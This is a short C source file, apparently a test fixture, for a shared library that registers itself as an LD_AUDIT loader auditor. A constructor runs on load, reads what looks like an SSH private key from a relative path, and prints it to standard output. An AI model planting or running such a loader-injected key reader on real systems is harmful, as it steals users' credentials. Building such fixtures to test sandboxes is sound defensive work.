/* A shared object that tells the secret as soon as it is loaded by a program that can read it. */
#include <fcntl.h>
#include <unistd.h>

__attribute__((constructor)) static void loaded(void)
{
    char buffer[64];
    int file = open("../../home/.ssh/id", O_RDONLY);
    ssize_t length = file < 0 ? 0 : read(file, buffer, sizeof buffer);

    if (length > 0 && write(1, buffer, (size_t)length) < 0)
        _exit(1);
}

/* What makes it an auditor for the dynamic loader, `rtld-audit(7)`. */
unsigned int la_version(unsigned int version)
{
    return version;
}
